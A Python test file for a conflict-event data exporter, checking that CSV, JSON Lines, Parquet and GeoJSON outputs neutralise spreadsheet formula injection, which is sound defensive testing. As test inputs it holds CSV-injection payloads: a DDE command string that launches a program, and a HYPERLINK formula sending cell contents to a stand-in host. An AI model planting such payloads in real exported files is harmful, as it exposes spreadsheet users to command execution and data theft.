"""Exports that cannot attack their reader: CSV cells a spreadsheet would run are inert."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fogmap.export import event_rows, neutralise, write_acled_csv, write_jsonl
from fogmap.records import Event, Place
from fogmap.store.queries import EventSummary


def test_formula_cells_get_a_leading_quote_and_numbers_stay_numbers() -> None:
    assert neutralise('=HYPERLINK("http://x.example/"&A1,"click")') == (
        '\'=HYPERLINK("http://x.example/"&A1,"click")'
    )
    assert neutralise("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert [neutralise(v) for v in ("+1", "-1", "\tx", "\rx")] == ["'+1", "'-1", "'\tx", "'\rx"]
    assert neutralise(-12.5) == -12.5 and neutralise("Kabul") == "Kabul"


@pytest.mark.slow  # the real gazetteer names the country
def test_the_acled_csv_writes_hostile_outlets_and_places_inert(gazetteer) -> None:
    event = Event(0, "Battles", "Armed clash", 0, 10, "clashed", mode="asserted", fatalities=3)
    place = Place(0, "=cmd|' /C calc'!A0", country="AF", lat=35.0, lon=-12.5)
    row = EventSummary(
        "abc123", "http://example.org/a", "@evil outlet", None, event, place, None, "text"
    )
    handle = io.StringIO()
    assert write_acled_csv(event_rows([row], gazetteer), handle) == 1
    (written,) = csv.DictReader(io.StringIO(handle.getvalue()))
    assert written["location"] == "'=cmd|' /C calc'!A0"
    assert written["source"] == "'@evil outlet"
    assert written["longitude"] == "-12.5" and written["fatalities"] == "3"
    assert written["country"] == "Afghanistan"


def test_jsonl_rows_keep_numbers_and_write_missing_values_as_null() -> None:
    handle = io.StringIO()
    rows = [{"event_id_cnty": "inc-1", "latitude": -12.5, "fatalities": 0, "admin1": ""}]
    assert write_jsonl(rows, handle) == 1
    assert json.loads(handle.getvalue()) == {
        "event_id_cnty": "inc-1",
        "latitude": -12.5,
        "fatalities": 0,
        "admin1": None,
    }


def test_parquet_rows_are_typed_and_written_in_row_groups(tmp_path, monkeypatch) -> None:
    import pyarrow.parquet as pq

    from fogmap import export

    monkeypatch.setattr(export, "PARQUET_BATCH", 2)
    rows = [
        {column: "" for column in export.ACLED_COLUMNS}
        | {"event_id_cnty": f"e{n}", "latitude": 34.5, "fatalities": n, "notes": "=cmd"}
        for n in range(5)
    ]
    path = tmp_path / "events.parquet"
    with path.open("wb") as handle:
        assert export.write_parquet(rows, handle) == 5
    table = pq.read_table(path)
    assert pq.ParquetFile(path).num_row_groups == 3
    assert table.column("fatalities").to_pylist() == [0, 1, 2, 3, 4]
    assert table.column("admin1").to_pylist() == [None] * 5
    assert str(table.schema.field("latitude").type) == "double"


def export_schema() -> dict:
    from importlib.resources import files

    return json.loads(files("fogmap").joinpath("schema/export.schema.json").read_text())


def test_the_export_schema_names_every_event_type_and_mode() -> None:
    from typing import get_args

    from fogmap.records import EventMode, EventType

    row = export_schema()["$defs"]["row"]["properties"]
    assert set(row["event_type"]["enum"]) == set(get_args(EventType))
    assert set(row["mode"]["enum"]) == {*get_args(EventMode), "contested"}


hostile = st.text(max_size=60) | st.sampled_from(
    [
        *('=HYPERLINK("http://x")', "@SUM(1)", "+1", "-1", "\t", "\r\n", "\x00", "\u202e"),
        *('"],[{', "\u2028", "\x85", "\x1e"),  # the last three: line ends to str.splitlines
    ]
)


@settings(max_examples=80, deadline=None)
@given(
    texts=st.lists(hostile, min_size=7, max_size=7),
    coordinates=st.none()
    | st.tuples(st.floats(-90, 90, allow_nan=False), st.floats(-180, 180, allow_nan=False)),
    fatalities=st.none() | st.integers(0, 10_000),
    mode=st.sampled_from(["asserted", "claimed", "denied"]),
)
def test_exports_stay_valid_whatever_text_the_pages_held(texts, coordinates, fatalities, mode):
    """JSON Lines and GeoJSON validate against schema/export.schema.json, and the CSV
    reads back as one row with no live formula, whatever the outlet, place, actors and
    evidence hold."""
    import jsonschema

    from fogmap.export import acled_row, write_geojson

    outlet, url, name, evidence, actor1, actor2, admin1 = texts
    lat, lon = coordinates if coordinates else (None, None)
    event = Event(
        0, "Battles", "Armed clash", 0, 1, "x", mode=mode, fatalities=fatalities,
        actor1=actor1, actor2=actor2, event_date="2021-09-06", time_precision=1,
    )  # fmt: skip
    place = Place(0, name, country="AF", admin1=admin1, lat=lat, lon=lon, feature_code="PPL")
    summary = EventSummary("abc123", url, outlet, None, event, place, None, evidence)
    row = acled_row(summary, lambda code: "Afghanistan")
    schema = export_schema()

    lines = io.StringIO()
    write_jsonl([row], lines)
    (line,) = lines.getvalue().splitlines()  # one record, one line, for any line reader
    jsonschema.validate(json.loads(line), schema)
    collection = io.StringIO()
    write_geojson([row], collection)
    jsonschema.validate(json.loads(collection.getvalue()), schema)
    table = io.StringIO()
    write_acled_csv([row], table)
    (written,) = csv.DictReader(io.StringIO(table.getvalue(), newline=""))
    for column, value in written.items():
        if isinstance(row[column], str) and row[column]:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), column
